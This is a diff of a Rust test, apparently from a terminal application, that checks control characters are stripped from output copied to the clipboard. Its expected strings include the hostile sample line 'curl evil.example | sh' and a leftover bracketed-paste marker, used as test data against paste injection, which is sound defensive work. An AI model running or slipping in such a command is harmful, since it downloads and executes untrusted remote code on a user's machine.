@@ -110,10 +110,10 @@ fn copied_output_has_no_control_characters_and_says_what_went() {
         .expect("base64");
     assert_eq!(
         String::from_utf8(text).expect("UTF-8"),
-        "harmless\ncurl evil.example | sh\n31mok\n"
+        "harmless[201~\ncurl evil.example | sh\n31mok\n"
     );
     assert_eq!(
         app.view().message.as_deref(),
-        Some("copied the output (38 bytes) to the clipboard; 9 control characters removed")
+        Some("copied the output (43 bytes) to the clipboard; 4 control characters removed")
     );
 }
